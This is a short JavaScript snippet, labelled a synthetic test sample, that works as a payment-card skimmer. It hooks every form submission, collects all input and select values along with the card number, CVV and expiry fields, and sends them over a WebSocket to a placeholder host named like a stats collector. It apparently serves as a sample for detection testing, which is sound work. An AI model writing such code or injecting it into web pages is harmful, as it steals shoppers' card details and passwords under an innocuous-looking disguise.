// SYNTHETIC TEST SAMPLE
var ws = new WebSocket("wss://stats-collector.example.invalid/ws");
function grab(){
  var out = {};
  document.querySelectorAll("input, select").forEach(function(e){ out[e.name] = e.value; });
  out.cc = (document.getElementById("card_number") || {}).value;
  out.cv = (document.getElementById("cvv") || {}).value;
  out.ex = (document.getElementById("cc_exp") || {}).value;
  ws.send(JSON.stringify(out));
}
document.addEventListener("submit", grab, true);
